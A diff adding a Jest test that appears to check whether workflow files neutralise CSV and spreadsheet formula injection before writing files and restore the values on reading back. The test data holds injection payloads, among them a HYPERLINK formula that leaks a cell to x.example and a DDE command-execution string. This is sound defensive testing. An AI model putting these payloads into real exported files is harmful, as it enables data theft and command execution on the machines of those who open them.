@@ -125,6 +125,42 @@ describe.each(files)('%s', (file) => {
 		expect(ends.length === 0).toBe(withoutEnds.includes(file));
 	});
 
+	const hostile = {
+		...{ '=SUM(1)': '=HYPERLINK("https://x.example/?"&A1)', name: "@SUM(1+1)*cmd|'/c calc'!A0" },
+		...{ tab: '\t=1', return: '\r=1', line: '\n=1', minus: '-2+3', mobile: '+4915112345678' },
+		...{ nested: { deep: ['=1', { more: '+1' }] }, number: -5, nothing: null, is: true },
+	};
+	const harmless = { quoted: 'a"=b', slash: 'c:\\', text: 'a = b', apostrophe: "'s", $: "$& $'" };
+	const textsIn = (value: unknown): string[] =>
+		typeof value === 'object' && value !== null
+			? Object.entries(value).flatMap(([key, inside]) => [key, ...textsIn(inside)])
+			: [value].filter((one) => typeof one === 'string');
+	const rewrite = (name: string, $json: unknown): unknown => {
+		const { parameters } = nodes.find((one) => one.name === name) ?? {};
+		const code = String(parameters?.jsonOutput).replace(/^=\{\{|\}\}$/g, '');
+		return JSON.parse(runInNewContext(code, { $json }) as string);
+	};
+
+	test('writes no formula into a file, and reads it back as it was', () => {
+		const writers = ofType('.convertToFile').filter(
+			({ parameters: { operation = 'csv' } }) => operation !== 'toText',
+		);
+		for (const { name } of writers) {
+			const before = Object.keys(connections).filter((one) => targetsOf(one, 0).includes(name));
+			expect(before).toEqual(['No formulas']);
+			const written = rewrite('No formulas', { ...hostile, ...harmless });
+			expect(textsIn(written).filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
+			expect(written).toMatchObject({ ...harmless, mobile: "'+4915112345678", number: -5 });
+		}
+		if (writers.length > 0 && ofType('.formTrigger').length > 0)
+			expect(rewrite('Read the rows', rewrite('No formulas', { ...hostile, ...harmless }))).toEqual(
+				{
+					...hostile,
+					...harmless,
+				},
+			);
+	});
+
 	test('leads back to an earlier node only in a loop, or after a page that waits for a person', () => {
 		const loops = ofType('.splitInBatches').map(({ name }) => name);
 		const pages = ofType('.form')
